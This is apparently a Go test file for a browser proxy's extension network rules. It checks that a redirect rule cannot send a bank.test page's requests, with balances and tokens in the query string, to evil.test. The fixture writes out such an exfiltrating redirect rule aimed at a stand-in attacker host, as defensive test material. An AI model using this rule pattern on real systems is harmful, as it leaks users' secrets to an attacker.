package proxy

import (
	"net/http"
	"strings"
	"testing"

	"github.com/remixproxy/remixproxy/store"
	"github.com/remixproxy/remixproxy/store/storetest"
)

// A remixlet approved on bank.test and evil.test with the netrules permission: on bank.test
// pages, a redirect rule whose regex substitution carries the request's address (query
// included) sends it to evil.test, another of its sites. The person approved where it runs,
// not where it may send (OPEN-ITEMS 99, NOTES.remix7.md): a redirect may go only within the
// requesting page's site, the site the request was going to anyway, or to a fetch: host.
func TestNetRulesRedirectStaysOnTheRequestingPagesSite(t *testing.T) {
	w := newRulesWorld(t, "bank.test", "evil.test", "cdn.evil.test")
	rx := w.seedRules("two sites", `"https://bank.test/*", "https://*.evil.test/*"`, `[
		{"id":1,"action":{"type":"redirect","redirect":{"regexSubstitution":"https://evil.test/got/\\1"}},"condition":{"regexFilter":"^https://bank\\.test/(.*)$","resourceTypes":["image","xmlhttprequest","main_frame"]}},
		{"id":2,"priority":2,"action":{"type":"redirect","redirect":{"url":"https://evil.test/fixed"}},"condition":{"urlFilter":"||bank.test/fixed","resourceTypes":["image"]}},
		{"id":3,"priority":2,"action":{"type":"redirect","redirect":{"regexSubstitution":"https://bank.test/new/\\1"}},"condition":{"regexFilter":"^https://bank\\.test/old/(.*)$","resourceTypes":["image"]}},
		{"id":4,"action":{"type":"redirect","redirect":{"regexSubstitution":"https://evil.test/moved/\\1"}},"condition":{"regexFilter":"^https://cdn\\.evil\\.test/(.*)$","resourceTypes":["image"]}}]`)

	onBank := func(dest, mode string) []string {
		return []string{"Sec-Fetch-Dest", dest, "Sec-Fetch-Mode", mode, "Sec-Fetch-Site", "same-origin", "Referer", "https://bank.test/account"}
	}
	for _, c := range []struct {
		name, url string
		hdr       []string
		want      string // where the request ends (as the browser follows a 307)
	}{
		// The attack: the page's own requests, carried to evil.test.
		{"image with the balance", "https://bank.test/api/balance.png?acct=123&balance=4711", onBank("image", "no-cors"),
			"bank.test/api/balance.png?acct=123&balance=4711"},
		{"fetch with a token", "https://bank.test/api?token=s3cret", onBank("empty", "cors"), "bank.test/api?token=s3cret"},
		{"the page's navigation", "https://bank.test/transfer?to=me", onBank("document", "navigate"), "bank.test/transfer?to=me"},
		{"a fixed url", "https://bank.test/fixed?balance=4711", onBank("image", "no-cors"), "bank.test/fixed?balance=4711"},
		// Controls: within the page's site; within the site the request was going to; on
		// evil.test's own page.
		{"within the page's site", "https://bank.test/old/a.png", onBank("image", "no-cors"), "bank.test/new/a.png"},
		{"within the request's site", "https://cdn.evil.test/a.png",
			[]string{"Sec-Fetch-Dest", "image", "Sec-Fetch-Site", "cross-site", "Referer", "https://bank.test/account"}, "evil.test/moved/a.png"},
		{"on evil.test's own page", "https://bank.test/x.png",
			[]string{"Sec-Fetch-Dest", "image", "Sec-Fetch-Site", "cross-site", "Referer", "https://evil.test/"}, "evil.test/got/x.png"},
	} {
		before := len(w.requests())
		w.follow(c.url, c.hdr...)
		got := w.requests()[before:]
		if len(got) != 1 || !strings.HasPrefix(got[0], "GET "+c.want+" ") {
			t.Errorf("%s: %s reached %q, want only GET %s", c.name, c.url, got, c.want)
		}
	}
	for _, r := range w.requests() {
		if strings.Contains(r, "4711") && strings.Contains(r, "evil.test") || strings.Contains(r, "s3cret") && strings.Contains(r, "evil.test") {
			t.Errorf("evil.test got %s", r)
		}
	}
	if log := w.logOf(rx.ID); !strings.Contains(log, "rule 1 did not redirect a request of a bank.test page to evil.test") ||
		strings.Count(log, "rule 1 did not redirect") != 1 {
		t.Errorf("the remixlet's log should say once that rule 1 was withheld on bank.test:\n%s", log)
	}
}

// The person's fetch: grant for a host ("Send requests to HOST as you, with your cookies")
// lets a redirect go there from any of the remixlet's pages.
func TestNetRulesRedirectToAFetchHost(t *testing.T) {
	w := newRulesWorld(t, "bank.test", "evil.test")
	manifest := `{"name": "granted", "api": 1, "matches": ["https://bank.test/*", "https://evil.test/*"], "permissions": [
		{"name": "netrules", "reason": "r"}, {"name": "fetch:evil.test", "reason": "r"}]}`
	storetest.Create(w.t, w.st, "granted", store.Files{"manifest.json": []byte(manifest), "script.js": []byte(testScript),
		"rules.json": []byte(`[{"id":1,"action":{"type":"redirect","redirect":{"regexSubstitution":"https://evil.test/got/\\1"}},"condition":{"regexFilter":"^https://bank\\.test/(.*)$","resourceTypes":["image"]}}]`)})
	w.srv.InvalidateNetRules()
	w.follow("https://bank.test/a.png", "Sec-Fetch-Dest", "image", "Sec-Fetch-Site", "same-origin", "Referer", "https://bank.test/")
	if got := w.requests(); len(got) != 1 || !strings.HasPrefix(got[0], "GET evil.test/got/a.png ") {
		t.Errorf("upstream got %q, want only GET evil.test/got/a.png", got)
	}
}

// follow gets addr through the proxy with the headers, following 307s as a browser does (the
// same headers, Sec-Fetch-Site made cross-site when the host changes), at most 5 times.
func (w *rulesWorld) follow(addr string, hdr ...string) {
	w.t.Helper()
	for range 5 {
		resp, _ := w.get(addr, hdr...)
		loc := resp.Header.Get("Location")
		if resp.StatusCode != http.StatusTemporaryRedirect || loc == "" {
			return
		}
		addr = loc
		if !strings.HasPrefix(loc, "https://bank.test/") {
			hdr = append(hdr[:len(hdr):len(hdr)], "Sec-Fetch-Site", "cross-site")
		}
	}
	w.t.Fatalf("%s: more than 5 redirects", addr)
}
